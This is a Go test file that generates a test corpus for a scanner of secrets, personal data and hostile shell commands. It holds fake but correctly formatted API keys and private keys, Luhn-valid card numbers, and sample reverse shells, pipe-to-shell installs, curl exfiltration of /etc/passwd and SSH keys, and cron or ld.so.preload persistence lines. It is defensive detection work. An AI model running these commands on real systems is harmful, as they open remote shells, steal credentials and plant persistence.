package gate

import (
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"math/big"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The corpus in testdata/ is generated: every token is fake (random, from
// a fixed seed) but has the exact format of the real thing. Regenerate with
//
//	go test ./gate -run TestGenerateCorpus -update
var update = flag.Bool("update", false, "regenerate gate/testdata corpus files")

// sample is one corpus line. Positive samples name the rule that must
// fire; Also lists other rules that may legitimately fire on the text.
type sample struct {
	Rule string   `json:"rule,omitempty"`
	Text string   `json:"text"`
	Also []string `json:"also,omitempty"`
}

type gen struct{ r *rand.Rand }

const (
	lowerDigits = "abcdefghijklmnopqrstuvwxyz0123456789"
	alnumChars  = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b64Chars    = alnumChars + "+/"
	b64URLChars = alnumChars + "-_"
	hexChars    = "0123456789abcdef"
	upperDigits = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
)

func (g gen) pick(set string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = set[g.r.IntN(len(set))]
	}
	return string(b)
}

func (g gen) alnum(n int) string { return g.pick(alnumChars, n) }
func (g gen) hex(n int) string   { return g.pick(hexChars, n) }
func (g gen) digits(n int) string {
	return g.pick("0123456789", n)
}

// pemBody returns base64 lines like a PEM body.
func (g gen) pemBody(lines int, sep string) string {
	var b []string
	for range lines {
		b = append(b, g.pick(b64Chars, 64))
	}
	return strings.Join(b, sep)
}

// luhnComplete appends the Luhn check digit to a digit prefix.
func luhnComplete(prefix string) string {
	for d := '0'; d <= '9'; d++ {
		if s := prefix + string(d); luhn([]byte(s)) {
			return s
		}
	}
	panic("unreachable")
}

func (g gen) card(prefix string, length int) string {
	return luhnComplete(prefix + g.digits(length-len(prefix)-1))
}

// iban builds a valid IBAN for country cc with a random BBAN.
func (g gen) iban(cc string, bban string) string {
	rearranged := bban + cc + "00"
	var num strings.Builder
	for _, c := range rearranged {
		if c >= 'A' && c <= 'Z' {
			fmt.Fprintf(&num, "%d", c-'A'+10)
		} else {
			num.WriteRune(c)
		}
	}
	n, _ := new(big.Int).SetString(num.String(), 10)
	check := 98 - new(big.Int).Mod(n, big.NewInt(97)).Int64()
	return fmt.Sprintf("%s%02d%s", cc, check, bban)
}

func group4(s string) string {
	var parts []string
	for len(s) > 4 {
		parts = append(parts, s[:4])
		s = s[4:]
	}
	return strings.Join(append(parts, s), " ")
}

func jwtPart(v string) string { return base64.RawURLEncoding.EncodeToString([]byte(v)) }

func (g gen) secretPositives() []sample {
	pos := func(rule, text string, also ...string) sample { return sample{Rule: rule, Text: text, Also: also} }
	sa := fmt.Sprintf(`{"type": "service_account", "project_id": "demo-%s", "private_key_id": "%s", "private_key": "-----BEGIN PRIVATE KEY-----\n%s\n-----END PRIVATE KEY-----\n", "client_email": "svc@demo.iam.gserviceaccount.com"}`,
		g.pick(lowerDigits, 6), g.hex(40), g.pemBody(4, `\n`))
	return []sample{
		pos("private-key", "-----BEGIN RSA PRIVATE KEY-----\n"+g.pemBody(6, "\n")+"\n-----END RSA PRIVATE KEY-----"),
		pos("private-key", "key:\n-----BEGIN OPENSSH PRIVATE KEY-----\r\n"+g.pemBody(4, "\r\n")+"\r\n-----END OPENSSH PRIVATE KEY-----\r\n"),
		pos("private-key", "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n"+g.pemBody(5, "\n")+"\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----"),
		pos("private-key", "-----BEGIN EC PRIVATE KEY-----\n"+g.pemBody(2, "\n")+"\n(truncated)"),
		pos("private-key", "-----BEGIN ENCRYPTED PRIVATE KEY-----\n"+g.pemBody(3, "\n")+"\n-----END ENCRYPTED PRIVATE KEY-----"),
		pos("putty-private-key", "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: demo\nPublic-Lines: 2\n"+g.pemBody(2, "\n")+"\nPrivate-Lines: 1\n"+g.pemBody(1, "\n")+"\nPrivate-MAC: "+g.hex(64)),
		pos("age-secret-key", "AGE-SECRET-KEY-1"+g.pick("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58)),
		pos("aws-access-key-id", "aws_access_key_id = AKIA"+g.pick("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)),
		pos("aws-access-key-id", `{"AccessKeyId": "ASIA`+g.pick("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)+`"}`),
		pos("aws-secret-access-key", "aws_secret_access_key = "+g.pick(b64Chars, 40)),
		pos("aws-secret-access-key", `AWS_SECRET_ACCESS_KEY="`+g.pick(b64Chars, 40)+`"`),
		pos("aws-secret-access-key", "demo,,AKIA"+g.pick("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)+","+g.pick(b64Chars, 40), "aws-access-key-id"),
		pos("aws-session-token", "aws_session_token="+g.pick(b64Chars, 220)),
		pos("gcp-service-account-key", sa, "private-key"),
		pos("alibaba-access-key-id", "LTAI"+g.alnum(20)),
		pos("azure-storage-key", "DefaultEndpointsProtocol=https;AccountName=demo;AccountKey="+g.pick(b64Chars, 86)+"==;EndpointSuffix=core.windows.net"),
		pos("azure-shared-access-key", "Endpoint=sb://demo.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey="+g.pick(b64Chars, 43)+"="),
		pos("gcp-api-key", "key=AIza"+g.pick(b64URLChars, 35)),
		pos("google-oauth-client-secret", "GOCSPX-"+g.pick(b64URLChars, 28)),
		pos("google-oauth-access-token", "Authorization: Bearer ya29."+g.pick(b64URLChars, 120)),
		pos("github-pat", "GITHUB_TOKEN=ghp_"+g.alnum(36)),
		pos("github-oauth-token", "gho_"+g.alnum(36)),
		pos("github-user-token", "ghu_"+g.alnum(36)),
		pos("github-server-token", "ghs_"+g.alnum(36)),
		pos("github-refresh-token", "ghr_"+g.alnum(76)),
		pos("github-fine-grained-pat", "github_pat_"+g.alnum(22)+"_"+g.alnum(59)),
		pos("gitlab-pat", "glpat-"+g.pick(b64URLChars, 20)),
		pos("gitlab-token", "token: gldt-"+g.pick(b64URLChars, 20)),
		pos("gitlab-token", "glrt-"+g.pick(b64URLChars, 20)),
		pos("npm-token", "//registry.npmjs.org/:_authToken=npm_"+g.alnum(36)),
		pos("pypi-token", "password = pypi-AgEIcHlwaS5vcmc"+g.pick(b64URLChars, 120)),
		pos("rubygems-api-key", "rubygems_"+g.hex(48)),
		pos("nuget-api-key", "oy2"+g.pick(lowerDigits, 43)),
		pos("docker-hub-pat", "dckr_pat_"+g.pick(b64URLChars, 27)),
		pos("stripe-live-key", "sk_live_"+g.alnum(24)),
		pos("stripe-live-key", "Stripe.api_key = 'sk_live_"+g.alnum(99)+"'"),
		pos("stripe-restricted-key", "rk_live_"+g.alnum(24)),
		pos("stripe-webhook-secret", "whsec_"+g.alnum(32)),
		pos("slack-bot-token", "xoxb-"+g.digits(11)+"-"+g.digits(12)+"-"+g.alnum(24)),
		pos("slack-user-token", "xoxp-"+g.digits(11)+"-"+g.digits(11)+"-"+g.digits(12)+"-"+g.hex(32)),
		pos("slack-token", "xapp-1-A"+g.pick(upperDigits, 10)+"-"+g.digits(13)+"-"+g.hex(64)),
		pos("slack-token", "xoxe.xoxp-1-"+g.alnum(120)),
		pos("slack-webhook", "https://hooks.slack.com/services/T"+g.pick(upperDigits, 8)+"/B"+g.pick(upperDigits, 10)+"/"+g.alnum(24)),
		pos("twilio-api-key", "TWILIO_API_KEY=SK"+g.hex(32)),
		pos("sendgrid-api-key", "SG."+g.pick(b64URLChars, 22)+"."+g.pick(b64URLChars, 43)),
		pos("mailgun-api-key", "api: key-"+g.hex(32)),
		pos("mailchimp-api-key", g.hex(32)+"-us14"),
		pos("discord-bot-token", "DISCORD_BOT_TOKEN=MT"+g.alnum(22)+"."+g.pick(b64URLChars, 6)+"."+g.pick(b64URLChars, 38)),
		pos("discord-webhook", "https://discord.com/api/webhooks/1"+g.digits(17)+"/"+g.pick(b64URLChars, 68)),
		pos("telegram-bot-token", "bot"+g.digits(10)+":AA"+g.pick(b64URLChars, 33)),
		pos("openai-api-key", "OPENAI_API_KEY=sk-proj-"+g.pick(b64URLChars, 120)),
		pos("openai-api-key", "sk-"+g.alnum(20)+"T3BlbkFJ"+g.alnum(20)),
		pos("anthropic-api-key", "ANTHROPIC_API_KEY=sk-ant-api03-"+g.pick(b64URLChars, 93)+"AA"),
		pos("huggingface-token", "hf_"+g.pick("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", 34)),
		pos("digitalocean-token", "dop_v1_"+g.hex(64)),
		pos("heroku-api-key", "HRKU-"+g.pick(b64URLChars, 60)),
		pos("heroku-api-key", "HEROKU_API_KEY="+g.hex(8)+"-"+g.hex(4)+"-"+g.hex(4)+"-"+g.hex(4)+"-"+g.hex(12)),
		pos("shopify-token", "shpat_"+g.hex(32)),
		pos("square-access-token", "sq0atp-"+g.pick(b64URLChars, 22)),
		pos("square-access-token", "EAAA"+g.pick(b64URLChars, 60)),
		pos("square-oauth-secret", "sq0csp-"+g.pick(b64URLChars, 43)),
		pos("datadog-api-key", "DD_API_KEY="+g.hex(32)),
		pos("azure-ad-client-secret", "client secret: "+g.alnum(3)+"8Q~"+g.pick(alnumChars+"_~.-", 34)),
		pos("postman-api-key", "PMAK-"+g.hex(24)+"-"+g.hex(34)),
		pos("linear-api-key", "lin_api_"+g.alnum(40)),
		pos("doppler-token", "dp.pt."+g.alnum(43)),
		pos("vault-token", "VAULT_TOKEN=hvs."+g.pick(b64URLChars, 90)),
		pos("terraform-cloud-token", g.alnum(14)+".atlasv1."+g.pick(b64URLChars, 67)),
		pos("grafana-token", "glsa_"+g.alnum(32)+"_"+g.hex(8)),
		pos("newrelic-api-key", "NRAK-"+g.pick(upperDigits, 27)),
		pos("pulumi-token", "pul-"+g.hex(40)),
		pos("databricks-token", "dapi"+g.hex(32)),
		pos("jwt", "Authorization: Bearer "+jwtPart(`{"alg":"HS256","typ":"JWT"}`)+"."+jwtPart(`{"sub":"1234567890","name":"Demo","iat":1516239022}`)+"."+g.pick(b64URLChars, 43)),
		pos("url-password", "DATABASE_URL=postgres://admin:"+g.alnum(16)+"@db.example.internal:5432/app"),
		pos("url-password", "git clone https://deploy:"+g.alnum(20)+"@git.example.com/team/repo.git"),
		pos("url-password", "redis://:"+g.alnum(12)+"@cache.example.net:6379/0"),
		pos("generic-secret-assignment", "DB_PASSWORD="+g.alnum(10)+"#"+g.alnum(6)),
		pos("generic-secret-assignment", `api_key: '`+g.alnum(24)+`'`),
		pos("generic-secret-assignment", `{"client_secret": "`+g.alnum(32)+`"}`),
		pos("generic-secret-assignment", "export SECRET_TOKEN="+g.hex(32)),
		pos("generic-secret-assignment", "credentials := \""+g.alnum(18)+"\""),
		pos("generic-secret-assignment", "password=Tr0ub4dorX3"),
		pos("generic-secret-assignment", "api_key: 9fQ2xLm4Pz"+g.alnum(14)),
		pos("generic-secret-assignment", "SECRET_KEY = '"+g.alnum(12)+"#"+g.alnum(12)+"'"),
		// Fixed-format keys with bytes glued to them (evasion attempts).
		pos("aws-access-key-id", "x"+g.awsKeyID()),
		pos("aws-access-key-id", "_"+g.awsKeyID()),
		pos("aws-access-key-id", g.awsKeyID()+"x"),
		pos("aws-access-key-id", g.awsKeyID()+"_"),
		pos("aws-access-key-id", g.awsKeyID()+"-"),
		pos("aws-access-key-id", "key="+g.awsKeyID()+"abc"),
		pos("github-pat", "xghp_"+g.alnum(36)),
		pos("github-pat", "ghp_"+g.alnum(36)+"x"),
		pos("github-pat", "_ghp_"+g.alnum(36)+"_"),
		pos("stripe-live-key", "xsk_live_"+g.alnum(24)+"_"),
		pos("npm-token", "NPM_TOKEN=abcnpm_"+g.alnum(36)+"-"),
		pos("google-oauth-access-token", "tokenya29."+g.pick(b64URLChars, 80)),
		pos("slack-bot-token", "9xoxb-"+g.digits(11)+"-"+g.digits(12)+"-"+g.alnum(24)+"_"),
	}
}

// awsKeyID returns an AWS access key id.
func (g gen) awsKeyID() string {
	return "AKIA" + g.pick("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
}

func (g gen) secretNegatives() []sample {
	neg := func(text string) sample { return sample{Text: text} }
	return []sample{
		neg("The AKIA prefix marks long-term AWS keys; ASIA marks temporary ones."),
		neg("AKIAIOSFODNN7 is too short to be a key id"),
		neg("ghp_short and gho_ are token prefixes"),
		neg("sk_test_" + g.alnum(24) + " is a Stripe test key and is not flagged"),
		neg("password: ********"),
		neg("touch: cannot touch '/etc/passwd': Read-only file system"),
		neg("password: Read-only"),
		neg("password=changeme"),
		neg("DB_PASSWORD=${DB_PASSWORD}"),
		neg("api_key = os.environ['API_KEY']"),
		neg("token = process.env.GITHUB_TOKEN"),
		neg("secret_name=my-app-secret"),
		neg("password_min_length=12"),
		neg("The token is valid for 3600 seconds."),
		neg("max_tokens: 4096, temperature: 0.2"),
		neg("PWD=/usr/local/src/project-2024"),
		neg("token_path=/var/run/secrets/kubernetes.io/serviceaccount/token"),
		neg("-----BEGIN PUBLIC KEY-----\n" + g.pemBody(3, "\n") + "\n-----END PUBLIC KEY-----"),
		neg("-----BEGIN CERTIFICATE-----\n" + g.pemBody(4, "\n") + "\n-----END CERTIFICATE-----"),
		neg("https://example.com:8443/path?x=1"),
		neg("ssh://git@example.com/team/repo.git"),
		neg("redis://cache.example.net:6379/0"),
		neg("eyJhbGciOi is how every JWT header begins"),
		neg("a key-value store; press SKIP to continue; ASK the DISK"),
		neg("type: service_account is mentioned here without any key"),
		neg("uuid 123e4567-e89b-12d3-a456-426614174000 sha " + g.hex(40)),
		neg("sha256:" + g.hex(64)),
		neg("data:image/png;base64," + g.pick(b64Chars, 2048) + "=="),
		neg("session_token=abc"),
		neg("password = hunter2"),
		neg("Use AccountKey= followed by your storage key."),
		// A key id inside a longer run of upper case and digits is data.
		neg("digest " + g.pick(upperDigits, 12) + "AKIA" + g.pick(upperDigits, 24)),
		// Generic assignments whose keyword does not end the name, or whose
		// value is a slug or an identifier.
		neg("tokenizer: bert-base-uncased-v2"),
		neg("secretName: my-app-tls-2024"),
		neg("secret_hash_algo = sha256WithRSA"),
		neg("password_policy: MinLength12Upper1Digit1"),
		neg("arn:aws:secretsmanager:us-east-1:123456789012:secret:prod/db-AbCdEf"),
		neg("apikey: req_01HV" + g.pick("0123456789ABCDEFGHJKMNPQRSTVWXYZ", 22)),
		neg("token_type: bearer-access-v2 model: gpt-neo-2-7b"),
	}
}

func (g gen) dataPositives() []sample {
	pos := func(rule, text string) sample { return sample{Rule: rule, Text: text} }
	visa := g.card("4", 16)
	return []sample{
		pos("credit-card", "card 4111 1111 1111 1111 exp 12/30"),
		pos("credit-card", "pan="+visa),
		pos("credit-card", "MC "+strings.Join(splitN(g.card("55", 16), 4), "-")),
		pos("credit-card", "Amex 3782 822463 10005"),
		pos("credit-card", "discover: "+g.card("6011", 16)),
		pos("credit-card", "jcb "+g.card("3530", 16)),
		pos("credit-card", "diners "+g.card("305", 14)),
		pos("credit-card", "visa19 "+g.card("4", 19)),
		pos("us-ssn", "SSN: 123-45-6789"),
		pos("us-ssn", "ssn=078-05-1120;"),
		pos("us-ssn", "social security number ("+fmt.Sprintf("%03d-%02d-%04d", 100+g.r.IntN(500), 10+g.r.IntN(89), 1000+g.r.IntN(8999))+")"),
		pos("credit-card", `{"card_number": "`+g.card("4", 16)+`"}`),
		pos("credit-card", "cc: "+g.card("51", 16)),
		pos("iban", "IBAN DE89 3704 0044 0532 0130 00"),
		pos("iban", "GB82 WEST 1234 5698 7654 32"),
		pos("iban", "iban="+g.iban("FR", g.digits(10)+g.pick(upperDigits, 11)+g.digits(2))),
		pos("iban", group4(g.iban("NL", "ABNA"+g.digits(10)))),
		pos("email", "contact alice@example.com today"),
		pos("email", "<first.last+tag@sub.example.co.uk>"),
		pos("phone", "call +1 415 555 2671"),
		pos("phone", "tel:+14155552671"),
		pos("phone", "(212) 555-0100"),
		pos("phone", "office 212-555-0100."),
		pos("phone", "212.555.0100"),
		pos("phone", "1-800-555-0199"),
		pos("phone", "London +44 20 7946 0958"),
		pos("ipv4", "host 192.168.1.10 up"),
		pos("ipv4", "dns=8.8.8.8,"),
		pos("ipv6", "addr 2001:db8::ff00:42:8329"),
		pos("ipv6", "link fe80::1 scope"),
		pos("ipv6", "2001:0db8:85a3:0000:0000:8a2e:0370:7334"),
	}
}

func splitN(s string, n int) []string {
	var out []string
	for len(s) > n {
		out = append(out, s[:n])
		s = s[n:]
	}
	return append(out, s)
}

func (g gen) dataNegatives() []sample {
	neg := func(text string) sample { return sample{Text: text} }
	bad := g.card("4", 16)
	bad = bad[:15] + string('0'+(bad[15]-'0'+1)%10)
	return append([]sample{
		neg("card 4111 1111 1111 1112 fails Luhn"),
		neg("pan=" + bad),
		neg("id 1234567890123456 has no issuer prefix"),
		neg("order 12345678901234567890"),
		neg("released 2024-01-15, updated 15/01/2024 at 12:30:45"),
		neg("version v1.2.3, go1.26.0, Python 3.11.4, node 20.10.0"),
		neg("uuid 123e4567-e89b-12d3-a456-426614174000"),
		neg("000-12-3456 666-12-3456 900-12-3456 123-00-4567 123-45-0000"),
		neg("DE88 3704 0044 0532 0130 00 has a wrong check digit"),
		neg("555-1234 and 12345 and 1,024 and 3.14159"),
		neg("ISBN 978-3-16-148410-0"),
		neg("user@localhost @decorator icon@2x.png npm i @types/node@18.0.0"),
		neg("999.999.999.999 and 256.1.1.1 and 1.2.3"),
		neg("std::vector<int> a::b 12:30:45 MAC 00:1a:2b:3c:4d:5e"),
		neg("commit " + g.hex(40)),
		neg("Transaction 202401150000123456 completed"),
		neg("elapsed 00:01:23.456, 99.9% done, 1e+10 ops"),
		neg("port 8080, pid 4242, exit 0"),
	}, g.bareNumbers()...)
}

// bareNumbers are numbers without context that look like cards or SSNs:
// random 64-bit seeds and 16-digit ids (some pass Luhn with an issuer
// prefix) and AAA-GG-SSSS part numbers, 50 to a line.
func (g gen) bareNumbers() []sample {
	var out []sample
	line := func(n int, f func() string) {
		parts := make([]string, n)
		for i := range parts {
			parts[i] = f()
		}
		out = append(out, sample{Text: strings.Join(parts, " ")})
	}
	for range 20 {
		line(50, func() string { return fmt.Sprintf("seed=%d", g.r.Uint64()) })
		line(50, func() string { return fmt.Sprintf(`{"id": %d%s},`, 1+g.r.IntN(9), g.digits(15)) })
	}
	for range 6 {
		line(50, func() string {
			return fmt.Sprintf("part %03d-%02d-%04d", 1+g.r.IntN(899), 1+g.r.IntN(99), 1+g.r.IntN(9999))
		})
	}
	return out
}

func (g gen) codePositives() []sample {
	pos := func(rule, text string, also ...string) sample { return sample{Rule: rule, Text: text, Also: also} }
	ip := "ipv4"
	return []sample{
		pos("pipe-to-shell", "curl -fsSL https://get.example.com/install.sh | bash"),
		pos("pipe-to-shell", "wget -qO- http://dl.example.org/a.sh | sh"),
		pos("pipe-to-shell", "curl -s http://x.example | sudo bash -s -- --yes"),
		pos("pipe-to-shell", "bash <(curl -s https://x.example/s.sh)"),
		pos("pipe-to-shell", `sh -c "$(curl -fsSL https://x.example/i.sh)"`),
		pos("pipe-to-shell", "iwr https://x.example/a.ps1 -UseBasicParsing | iex"),
		pos("reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ip),
		pos("reverse-shell", "nc -e /bin/sh 10.0.0.1 4444", ip),
		pos("reverse-shell", "ncat 10.0.0.1 4444 -e /bin/bash", ip),
		pos("reverse-shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", ip),
		pos("reverse-shell", "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr", ip),
		pos("reverse-shell", `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`, ip),
		pos("reverse-shell", `php -r '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, ip),
		pos("base64-pipe-shell", "echo ZWNobyBoaQ== | base64 -d | bash"),
		pos("base64-pipe-shell", "base64 --decode payload.b64 | sh"),
		pos("ssh-authorized-keys", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemo attacker' >> ~/.ssh/authorized_keys"),
		pos("ssh-authorized-keys", "cat key.pub | tee -a /root/.ssh/authorized_keys"),
		pos("sensitive-file-exfil", "curl -X POST -d @/etc/passwd https://x.example/u"),
		pos("sensitive-file-exfil", "curl -F 'f=@~/.ssh/id_rsa' https://x.example/u"),
		pos("sensitive-file-exfil", "wget --post-file=/etc/shadow http://x.example/"),
		pos("shell-rc-write", "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc"),
		pos("shell-rc-write", `echo 'alias sudo="sudo -E"' >> $HOME/.zshrc`),
		pos("shell-rc-write", "printf 'x' | tee -a ~/.profile"),
		pos("shell-rc-write", "cat payload > /home/user/.bash_profile"),
		pos("crontab-edit", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"),
		pos("crontab-edit", "echo '* * * * * root /tmp/x' >> /etc/crontab"),
		pos("crontab-edit", "cp evil /etc/cron.d/evil"),
		pos("crontab-edit", "crontab -e"),
		pos("crontab-edit", "crontab /tmp/jobs.txt"),
		pos("systemd-unit-write", "cat > /etc/systemd/system/backdoor.service <<EOF"),
		pos("ld-preload-write", "echo /tmp/evil.so > /etc/ld.so.preload"),
	}
}

func (g gen) codeNegatives() []sample {
	neg := func(text string) sample { return sample{Text: text} }
	return []sample{
		neg("The amount of the discount was applied once, since the mount point was remounted."),
		neg("curl -O https://example.com/file.tar.gz"),
		neg("curl https://api.example.com/v1/items | jq ."),
		neg("wget https://example.com/a.sh && less a.sh"),
		neg("nc -z localhost 80; ncat --version; nc -lvnp 4444"),
		neg("source ~/.bashrc; cat ~/.profile; . ~/.zshrc; vim ~/.bashrc"),
		neg("crontab -l; cat /etc/crontab; man crontab; the crontab file format"),
		neg("cat ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys"),
		neg("base64 -d image.b64 > image.png; echo aGk= | base64 -d"),
		neg("/dev/tcp is a bash feature"),
		neg("ounce, mounted, encoding, sync, syncing, functional, announce"),
		neg("fetch('/api/items').then(r => r.json())"),
		neg("bash script.sh | tee log.txt"),
		neg("socat TCP-LISTEN:8080,fork TCP:localhost:80"),
		neg("import socket; s = socket.socket(); s.connect((host, port))"),
		neg("systemctl status nginx.service; cat /etc/systemd/system/nginx.service"),
		neg("cat /etc/ld.so.preload"),
		neg("curl -d '{\"name\":\"x\"}' https://api.example.com/items"),
	}
}

// prose is output that must produce no finding of any family.
const prose = `Build started at 2026-11-27 11:04:05 (UTC).
Compiling 42 packages with go1.26.0; cache hit ratio 97.5%.
The amount of memory used was discounted once, since the mount was read-only.
Installed numpy 1.26.4, pandas 2.2.1 and requests 2.31.0 from the local index.
commit 3f5e2a9c8b7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f (HEAD -> main)
request id 123e4567-e89b-12d3-a456-426614174000 took 37 ms; 1,024 rows; exit 0.
Note: the token budget is 4096; the password policy requires 12 characters.
	at com.example.Handler.process(Handler.java:142)
Progress: 17/240 batches, ETA 00:01:23.
`

func writeJSONL(t *testing.T, path string, ss []sample) {
	t.Helper()
	var b strings.Builder
	for _, s := range ss {
		line, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(line)
		b.WriteByte('\n')
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestGenerateCorpus rewrites testdata/ when run with -update.
func TestGenerateCorpus(t *testing.T) {
	if !*update {
		t.Skip("run with -update to regenerate the corpus")
	}
	g := gen{rand.New(rand.NewPCG(0x6b617661, 0x636800))}
	files := map[string][]sample{
		"secrets.positive.jsonl": g.secretPositives(),
		"secrets.negative.jsonl": g.secretNegatives(),
		"data.positive.jsonl":    g.dataPositives(),
		"data.negative.jsonl":    g.dataNegatives(),
		"code.positive.jsonl":    g.codePositives(),
		"code.negative.jsonl":    g.codeNegatives(),
	}
	for name, ss := range files {
		writeJSONL(t, filepath.Join("testdata", name), ss)
	}
	if err := os.WriteFile(filepath.Join("testdata", "prose.txt"), []byte(prose), 0o644); err != nil {
		t.Fatal(err)
	}
}
